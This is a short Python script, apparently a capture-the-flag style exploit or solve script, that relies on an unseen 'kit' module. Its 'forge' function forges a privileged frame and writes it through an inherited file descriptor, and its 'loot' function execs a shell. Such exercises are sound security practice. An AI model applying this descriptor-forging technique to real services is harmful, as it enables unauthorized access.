# %%
from kit import *

# %%
PROGRAM = """
import os, sys, time
os.write(3, bytes.fromhex(sys.argv[1]))
time.sleep(60)
"""


def forge(x):
    os.set_inheritable(3, True)
    answer = frame(True, request=current_request()).hex()
    os.execv(sys.executable, [sys.executable, "-I", "-S", "-c", PROGRAM, answer])


def loot():
    os.execv("/bin/sh", ["sh", "-c", "exit 0"])
